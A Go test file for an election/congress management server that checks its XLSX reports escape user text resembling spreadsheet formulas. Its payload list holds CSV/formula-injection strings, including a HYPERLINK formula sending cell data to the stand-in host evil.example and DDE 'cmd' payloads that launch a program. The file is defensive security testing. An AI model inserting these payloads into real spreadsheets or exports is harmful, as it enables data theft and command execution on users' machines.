package server

import (
	"bytes"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/xuri/excelize/v2"
)

// formulaPayloads are texts a user might type (or paste) that a spreadsheet would run as a
// formula if a cell began with them: =, +, -, @, and a tab or carriage return before one (the
// domain's cleaning trims those, leaving the = in front). Each carries "calc" or "HYPERLINK" so
// its cells can be found again.
var formulaPayloads = []string{
	`=HYPERLINK("http://evil.example/?x="&A1,"Xem")`,
	`+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1+calc",
	"\r=2+2+calc",
}

// payloadIn tells whether a cell shows one of the payloads.
func payloadIn(s string) bool {
	return strings.Contains(s, "calc") || strings.Contains(s, "HYPERLINK")
}

// apiJSON sends an API request as user and decodes the answer into out (if not nil).
func apiJSON(t *testing.T, f *fixture, method, path, user string, body any, out any) {
	t.Helper()
	var text string
	if body != nil {
		b, err := json.Marshal(body)
		if err != nil {
			t.Fatal(err)
		}
		text = string(b)
	}
	w := f.do(req{method: method, path: path, bearer: user, json: text})
	if w.Code >= 300 {
		t.Fatalf("%s %s: %d %s", method, path, w.Code, w.Body.String())
	}
	if out != nil {
		if err := json.Unmarshal(w.Body.Bytes(), out); err != nil {
			t.Fatalf("%s %s: %v\n%s", method, path, err, w.Body.String())
		}
	}
}

// apiItems reads a list answer ({"items": [...]}, or a bare array) as an admin.
func apiItems(t *testing.T, f *fixture, path string) []map[string]any {
	t.Helper()
	var raw json.RawMessage
	apiJSON(t, f, http.MethodGet, path, uAdmin, nil, &raw)
	var list []map[string]any
	if json.Unmarshal(raw, &list) == nil {
		return list
	}
	var env struct {
		Items []map[string]any `json:"items"`
	}
	if err := json.Unmarshal(raw, &env); err != nil {
		t.Fatalf("%s: %v", path, err)
	}
	return env.Items
}

// Every report a user can download keeps user-typed text that looks like a formula as text:
// no cell of any report holds a formula, and every cell showing a payload starts with the
// apostrophe reports.SafeText puts before it.
func TestSecurityFormulaInjectionInReports(t *testing.T) {
	rf := newReportFixture(t)
	ids := seedIDs(t, rf)
	p := func(i int, rest string) string { return formulaPayloads[i%len(formulaPayloads)] + " " + rest }

	// The congress: place, notes, guests, past results.
	var cg map[string]any
	apiJSON(t, rf.fixture, http.MethodGet, fmt.Sprintf("/api/v1/congresses/%d", rf.seed), uAdmin, nil, &cg)
	cg["place"], cg["notes"] = p(0, "hội trường"), p(1, "ghi chú")
	cg["guests"] = []any{map[string]any{"name": p(2, "khách"), "title": p(3, "chức vụ"), "role": "directing"}}
	cg["past_results"] = []any{map[string]any{"label": p(4, "kết quả"), "value": p(5, "31"), "unit": p(0, "đv")}}
	for _, k := range []string{"id", "created_at", "updated_at", "organization_name", "organization_kind", "term_start", "term_end", "sample"} {
		delete(cg, k)
	}
	w := rf.do(req{method: http.MethodPut, path: fmt.Sprintf("/api/v1/congresses/%d", rf.seed), bearer: uAdmin, json: mustJSON(cg)})
	if w.Code != http.StatusOK {
		// Read-only fields the API refuses back: send only what it takes.
		t.Fatalf("congress update: %d %s", w.Code, w.Body.String())
	}

	// Every person of the roll: name, home town, position, degree.
	persons := apiItems(t, rf.fixture, fmt.Sprintf("/api/v1/congresses/%d/persons", rf.seed))
	if len(persons) == 0 {
		t.Fatal("the seed has no persons")
	}
	locked := 0
	for i, pr := range persons {
		id := int64(pr["id"].(float64))
		name := fmt.Sprint(pr["full_name"])
		pr["full_name"] = p(i, name)
		pr["home_town"], pr["position"], pr["degree"] = p(i+1, "quê"), p(i+2, "chức vụ"), p(i+3, "bằng")
		for _, k := range []string{"id", "congress_id", "sample", "age", "created_at", "updated_at"} {
			delete(pr, k)
		}
		path := fmt.Sprintf("/api/v1/persons/%d", id)
		w := rf.do(req{method: http.MethodPut, path: path, bearer: uAdmin, json: mustJSON(pr)})
		if w.Code == http.StatusConflict {
			// A candidate of a closed round keeps the name its locked minutes give (the store
			// refuses the rename; it used to accept it and break every report of the congress).
			e := apiErr(t, w)
			if !strings.Contains(e.Fields["full_name"], "biên bản kiểm phiếu đã khóa") || !strings.Contains(e.Message, name) {
				t.Errorf("rename of %s refused without saying why: %+v", name, e)
			}
			locked++
			pr["full_name"] = name
			w = rf.do(req{method: http.MethodPut, path: path, bearer: uAdmin, json: mustJSON(pr)})
		}
		if w.Code != http.StatusOK {
			t.Fatalf("person %d: %d %s", id, w.Code, w.Body.String())
		}
	}
	if locked == 0 {
		t.Errorf("%d of %d persons stood in a closed round: the seed changed", locked, len(persons))
	}

	// Every target and review of the resolution, and an auditor's note.
	targets := apiItems(t, rf.fixture, fmt.Sprintf("/api/v1/congresses/%d/targets", rf.seed))
	for i, tg := range targets {
		id := int64(tg["id"].(float64))
		tg["subject"], tg["sentence"] = p(i, fmt.Sprint(tg["subject"])), p(i+1, fmt.Sprint(tg["sentence"]))
		apiJSON(t, rf.fixture, http.MethodPut, fmt.Sprintf("/api/v1/targets/%d", id), uAdmin, tg, nil)
		reviews := apiItems(t, rf.fixture, fmt.Sprintf("/api/v1/targets/%d/reviews", id))
		for j, rv := range reviews {
			rid := int64(rv["id"].(float64))
			rv["source"] = p(i+j, "nguồn")
			var saved map[string]any
			apiJSON(t, rf.fixture, http.MethodPut, fmt.Sprintf("/api/v1/reviews/%d", rid), uAdmin, rv, &saved)
			apiJSON(t, rf.fixture, http.MethodPut, fmt.Sprintf("/api/v1/reviews/%d/note", rid), uAuditor,
				map[string]any{"note": p(i+j+2, "nhận xét"), "version": saved["version"]}, nil)
		}
	}

	// The organization's name, through its edit form.
	var org map[string]any
	apiJSON(t, rf.fixture, http.MethodGet, fmt.Sprintf("/api/v1/organizations/%d", ids.org), uAdmin, nil, &org)
	w = rf.post(uAdmin, fmt.Sprintf("/organizations/%d", ids.org), url.Values{"kind": {fmt.Sprint(org["kind"])},
		"name": {p(1, fmt.Sprint(org["name"]))}, "place": {p(2, "nơi")}, "version": {fmt.Sprint(org["version"])}})
	if w.Code != http.StatusSeeOther {
		t.Fatalf("organization update: %d %.500s", w.Code, w.Body.String())
	}

	// A round counted again: reopened (the reason typed like a formula), its candidates renamed,
	// its counting committee too, and closed again, so the minutes carry the names.
	var last int64
	if err := rf.db.R.Get(&last, rf.db.R.Rebind(`SELECT r.id FROM rounds r JOIN elections e ON e.id = r.election_id
		WHERE e.congress_id = ? AND r.closed = TRUE AND r.number = (SELECT MAX(number) FROM rounds WHERE election_id = r.election_id)
		ORDER BY r.id DESC LIMIT 1`), rf.seed); err != nil {
		t.Fatal(err)
	}
	apiJSON(t, rf.fixture, http.MethodPost, fmt.Sprintf("/api/v1/rounds/%d/reopen", last), uAdmin, map[string]any{"reason": p(0, "lý do")}, nil)
	var round map[string]any
	apiJSON(t, rf.fixture, http.MethodGet, fmt.Sprintf("/api/v1/rounds/%d", last), uAdmin, nil, &round)
	renamed := 0
	for i, cd := range round["candidates"].([]any) {
		pid := int64(cd.(map[string]any)["person_id"].(float64))
		var pr map[string]any
		apiJSON(t, rf.fixture, http.MethodGet, fmt.Sprintf("/api/v1/persons/%d", pid), uAdmin, nil, &pr)
		pr["full_name"] = p(i+2, fmt.Sprint(pr["full_name"]))
		if w := rf.do(req{method: http.MethodPut, path: fmt.Sprintf("/api/v1/persons/%d", pid), bearer: uAdmin, json: mustJSON(pr)}); w.Code == http.StatusOK {
			renamed++
		}
	}
	t.Logf("%d candidates of the reopened round renamed (the others stand in other closed rounds)", renamed)
	apiJSON(t, rf.fixture, http.MethodPost, fmt.Sprintf("/api/v1/rounds/%d/close", last), uAdmin, map[string]any{}, nil)

	reports := map[string]string{
		"minutes":         fmt.Sprintf("/congresses/%d/rounds/%d/minutes.xlsx", rf.seed, last),
		"targets":         fmt.Sprintf("/congresses/%d/targets/review.xlsx", rf.seed),
		"congress":        fmt.Sprintf("/congresses/%d/report.xlsx", rf.seed),
		"committee":       fmt.Sprintf("/congresses/%d/committee.xlsx", rf.seed),
		"congresses":      "/reports/congresses.xlsx",
		"structure":       "/reports/structure.xlsx",
		"targets-summary": "/reports/targets-summary.xlsx",
	}
	for kind, path := range reports {
		t.Run(kind, func(t *testing.T) {
			w := rf.get(uAdmin, path)
			if w.Code != http.StatusOK {
				rf.logMu.Lock()
				logs := rf.logs.String()
				rf.logMu.Unlock()
				t.Fatalf("%s: %d; log:\n%s", path, w.Code, logs[max(0, len(logs)-1500):])
			}
			xf, err := excelize.OpenReader(bytes.NewReader(w.Body.Bytes()))
			if err != nil {
				t.Fatalf("%s: %v", path, err)
			}
			defer xf.Close()
			cells, payloads := 0, 0
			for _, sheet := range xf.GetSheetList() {
				rows, err := xf.GetRows(sheet, excelize.Options{RawCellValue: true})
				if err != nil {
					t.Fatal(err)
				}
				for r, row := range rows {
					for c, v := range row {
						ref, _ := excelize.CoordinatesToCellName(c+1, r+1)
						cells++
						if fm, _ := xf.GetCellFormula(sheet, ref); fm != "" {
							t.Errorf("%s!%s holds the formula %q", sheet, ref, fm)
						}
						if !payloadIn(v) {
							continue
						}
						payloads++
						if first, _ := utf8.DecodeRuneInString(v); strings.ContainsRune("=+-@\t\r", first) {
							t.Errorf("%s!%s begins like a formula: %q", sheet, ref, v)
						}
						if typ, _ := xf.GetCellType(sheet, ref); typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString && typ != excelize.CellTypeUnset {
							t.Errorf("%s!%s is of type %v, not text: %q", sheet, ref, typ, v)
						}
						// The text itself is kept, behind the apostrophe when it began like a formula.
						if strings.HasPrefix(v, "'") {
							rest := strings.TrimPrefix(v, "'")
							if first, _ := utf8.DecodeRuneInString(rest); !strings.ContainsRune("=+-@", first) {
								t.Errorf("%s!%s: an apostrophe before harmless text: %q", sheet, ref, v)
							}
						}
					}
				}
			}
			t.Logf("%s: %d cells, %d with user text that looks like a formula", kind, cells, payloads)
			if payloads == 0 {
				t.Errorf("%s shows none of the texts typed: the check did not reach it", kind)
			}
		})
	}
}
